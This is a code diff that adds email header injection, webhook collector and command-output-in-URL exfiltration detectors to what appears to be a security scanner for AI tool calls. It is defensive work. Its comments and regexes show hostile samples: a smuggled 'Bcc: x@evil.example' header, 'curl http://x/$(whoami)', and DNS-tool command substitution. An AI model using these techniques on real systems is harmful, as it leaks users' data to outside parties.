@@ -25,6 +25,8 @@ from __future__ import annotations
 import re
 
 from aegis_mcp.engine import regex
+from aegis_mcp.engine.detectors.exfil_hook import output_in_url, webhook_to_collector
+from aegis_mcp.engine.detectors.exfil_mail import HEADER_INJECTION_PATTERN, header_injection
 from aegis_mcp.engine.detectors.base import R_CONTENT, R_EMAIL, R_IDENT, R_PATH, R_SHELL, R_TEXT, R_UNKNOWN, R_URL, Fragment, ScanContext
 from aegis_mcp.engine.detectors.exfil_sink import _RECIPIENT_NAMES, _URL_NAMES, SEND_WORDS, Sink, _trusted, sink_of
 from aegis_mcp.engine.detectors.exfil_content import (
@@ -88,6 +90,7 @@ GATE = Gate(
         "(?m)" + CLIENT_WORD_PATTERN,
         r"(?i)(?:dig|nslookup|host|drill|ping|hosts)\s[^\n;&]*(?:\$\(|`)",  # exfil_flow._DNS_SUBST, loosened
         ENV_IN_CODE_PATTERN,
+        HEADER_INJECTION_PATTERN,
         CODE_CRED_PATTERN,  # exfil_leaks.code_sends_credentials
         TRANSFER_GATE_PATTERN,  # exfil_transfer: cloud copies, copies to raw IPs, dumps over ssh, DNS loops, secrets in queries
         DATA_GATE_PATTERN,  # exfil_data: someone's data uploaded, piped or batched out by a client
@@ -343,4 +346,9 @@ def detect(ctx: ScanContext) -> list[Signal]:
         signals.extend(personal_documents(ctx, sink))
         signals.extend(outgoing_facts(ctx, sink, _csv_rows))
     signals.extend(to_drop_service(ctx))
+    signals.extend(header_injection(ctx))  # `a@b.example\nBcc: x@evil.example`
+    if not signals:
+        signals.extend(webhook_to_collector(ctx))  # every future push/message delivered to webhook.site
+    if not signals:
+        signals.extend(output_in_url(ctx))  # `curl http://x/$(whoami)`
     return signals
